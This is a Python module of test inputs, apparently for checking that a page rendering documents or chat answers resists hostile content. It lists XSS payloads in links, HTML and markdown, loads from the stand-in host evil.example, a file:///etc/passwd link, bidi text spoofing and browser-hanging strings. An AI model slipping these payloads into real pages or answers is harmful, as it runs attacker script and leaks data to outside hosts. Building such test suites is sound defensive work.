"""Texts that a document or an answer may hold to do something to the page that shows them.

Each tries to set `window.hacked`, to open a dialog, to load from `evil.example`, to spoof another
text, or to keep the browser busy.
"""

from __future__ import annotations

RUN = "window.hacked=1;alert(1)"
LINKS = (
    "javascript:{}",
    "JavaScript:{}",
    "javascript&#58;{}",
    "java\tscript:{}",
    "&#106;avascript:{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:image/svg+xml,<svg onload={}>",
    "blob:https://evil.example/{}",
    "file:///etc/passwd",
    "//evil.example/{}",
    "\x01javascript:{}",
    "javascript://example.org/%0a{}",
    "filesystem:https://evil.example/{}",
    "view-source:javascript:{}",
    "about:blank",
    "https:javascript:{}",
    "mailto:a@b?body=<script>{}</script>",
)
MARKUP = (
    "<script>{}</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror='{}'>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload='{}'>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin='{}' attributeName=x></svg>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<body onload='{}'>",
    "<input autofocus onfocus='{}'>",
    "<details open ontoggle='{}'>",
    "<video><source onerror='{}'></video>",
    "<math><mtext></form><form>",
    "<style>@import 'https://evil.example/x.css';*{{display:none}}</style>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>Contact us</button></form>",
    "<a href='javascript:{}'>x</a>",
    "</p></div></template></section><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<thrifty-rag-chat data-service=https://evil.example></thrifty-rag-chat>",
    "<dialog open>Contact us</dialog>",
    "<slot onslotchange='{}'></slot>",
)
MARKDOWN = (
    "![x](https://evil.example/pixel.png)",
    '![x](x"onerror="{})',
    '[a](https://example.org "onmouseover={}")',
    "[a][b]\n\n[b]: javascript:{}",
    "<javascript:{}>",
    "[![x](https://evil.example/a.png)](javascript:{})",
    "`` `<script>{}</script>` ``",
    "```html\n<script>{}</script>\n```",
    "| <img src=x onerror={}> |\n|---|\n| <script>{}</script> |",
    "[1](javascript:{})",
    "**[a](javascript:{})**",
    "\u202etxet desrever\u202c [a](https://example.org/\u202egnp.exe)",
    "\u2066\u2067\u2068 {} \u2069",
    "\x00<script>{}</script>\x07",
    "[" * 3_000 + "](" * 3_000,
    "*" * 6_000 + "a" + "_" * 6_000,
    "> " * 2_000 + "deep",
    "\n".join(" " * depth + "- deep" for depth in range(300)),
    "`" * 9_999,
    "|" * 5_000 + "\n" + "|-" * 5_000,
)

HOSTILE_TEXTS = (
    *(f"Read [this]({link.format(RUN)}) now." for link in LINKS),
    *(markup.format(RUN) for markup in MARKUP),
    *(text.replace("{}", RUN) for text in MARKDOWN),
)
